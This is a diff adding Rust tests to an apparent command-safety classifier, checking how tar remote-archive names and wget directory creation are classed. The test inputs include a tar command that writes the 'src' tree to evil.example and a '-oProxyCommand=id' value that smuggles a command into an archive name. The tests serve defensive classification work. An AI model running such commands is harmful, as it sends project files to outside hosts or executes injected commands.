@@ -627,6 +627,51 @@ fn network() {
     ]);
 }
 
+/// A remote tar archive's host is where paxutils' `rmt_open__` finds it: after the first
+/// `@` anywhere in the name, even past the colon.
+#[test]
+fn tar_remote_hosts_are_split_as_rmt_splits_them() {
+    let f = fx();
+    for (cmd, host) in [
+        ("tar -cf h:/tmp/a@evil.example src", "to evil.example"),
+        ("tar -cf dev@10.0.0.5:/tmp/out.tar src", "to 10.0.0.5"),
+        ("tar -cf host:out.tgz src", "to host"),
+    ] {
+        let (got, why) = class(&f, cmd);
+        assert_eq!(got, "unknown", "{cmd}");
+        assert!(why.ends_with(host), "{cmd}: {why}");
+    }
+    for cmd in [
+        "tar -cf a@b@c:/tmp/x src",
+        "tar -cf h:/x@a@b src",
+        "tar -cf -oProxyCommand=id:x src",
+        "tar -cf u@:x src",
+    ] {
+        let (got, why) = class(&f, cmd);
+        assert_eq!(got, "unknown", "{cmd}");
+        assert!(why.contains("remote shell reads"), "{cmd}: {why}");
+    }
+}
+
+/// wget makes the directories it saves into, unlinking a file that stands where one must
+/// be (`mkalldirs`): a delete.
+#[test]
+fn wget_removes_files_in_the_way_of_its_directories() {
+    let f = fx();
+    std::fs::write(f.ws.join("notes.txt"), "x").unwrap();
+    std::fs::write(f.ws.join("example.com"), "x").unwrap();
+    for (cmd, want) in [
+        ("wget -P src https://example.com/f.txt", "routine"),
+        ("wget -P notes.txt https://example.com/f.txt", "soft"),
+        ("wget -x https://example.com/a/b.txt", "soft"),
+        ("wget -x -nH https://example.com/notes.txt/b.txt", "soft"),
+        ("wget -x -nH https://example.com/src/b.txt", "routine"),
+    ] {
+        let (got, why) = class(&f, cmd);
+        assert_eq!(got, want, "{cmd}: {why}");
+    }
+}
+
 #[test]
 fn archives() {
     table(&[
